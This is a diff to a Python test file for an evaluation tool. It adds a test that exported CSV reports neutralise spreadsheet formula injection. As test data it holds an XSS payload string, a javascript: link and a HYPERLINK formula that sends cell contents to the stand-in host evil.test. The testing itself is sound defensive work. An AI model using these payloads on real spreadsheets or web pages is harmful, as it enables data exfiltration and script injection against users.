@@ -2,16 +2,20 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from html.parser import HTMLParser
 from pathlib import Path
 
+import pandas
 import pytest
 from PIL import Image
 from typer.testing import CliRunner
 
+from looktwice.eval import score_table
 from looktwice.eval.cli import app
+from looktwice.eval.display.printable import csv_cell
 from looktwice.eval.display.text_tables import escaped
 
 EVIL = "a|b `c` <img src=x onerror=alert(1)> ![p](http://evil.test/p.png) [t](javascript:x) <http://evil.test> \"'\n# H"
@@ -94,3 +98,44 @@ def test_the_pages_hold_no_markup_of_others(run: Path) -> None:
 )
 def test_a_text_in_markdown_is_shown_as_it_is(text: str, shown: str) -> None:
     assert escaped(text) == shown
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
+CELLS = """
+tasks: {TASK: {use: eval.tasks.Folder, path: own, split: "@SUM(A1)"}}
+models: {m: {use: pipelines.models.Scripted, answer: "(A)"}}
+stages: {choose: {use: prompting.wording.MultipleChoice}, ask: {use: prompting.turns.Ask}}
+contestants: {NAME: {}, "+1 more": {stages: {ask: {images: after}}}}
+each: [{stages.ask.system: "\t=1+1"}]
+"""
+
+
+def test_a_name_is_no_formula_in_a_spreadsheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A contestant called =HYPERLINK(...) was computed by the spreadsheet in which somebody opened report.csv."""
+    monkeypatch.chdir(tmp_path)
+    Path("own").mkdir()
+    row = {"question": "Which?", "choices": ["a", "b"], "answer": "A"}
+    rows = ({"id": name, **row} for name in "pq")
+    Path("own/samples.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    Path("study.yaml").write_text(CELLS.replace("NAME", json.dumps(FORMULA)).replace("TASK", json.dumps("-2+3")))
+    result = CliRunner().invoke(app, ["run", "study.yaml"])
+    assert result.exit_code == 0, result.output
+    for name in ("report.csv", "effects.csv"):
+        path = Path("runs/study") / name
+        with path.open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        evil = [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n") and not is_number(cell)]
+        assert not evil and f"'{FORMULA}" in cells and "'-2+3" in cells, (name, evil)
+        frame = pandas.read_csv(path)
+        assert frame["value" if name == "report.csv" else "effect"].dtype.kind in "if"
+    assert FORMULA in set(score_table("runs/study").to_pandas().contestant)
+    given = ("-5", "+1e-3", "-", -0.5, "=1", "a=1", "\tx")
+    assert [csv_cell(value) for value in given] == ["-5", "+1e-3", "'-", -0.5, "'=1", "a=1", "'\tx"]
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
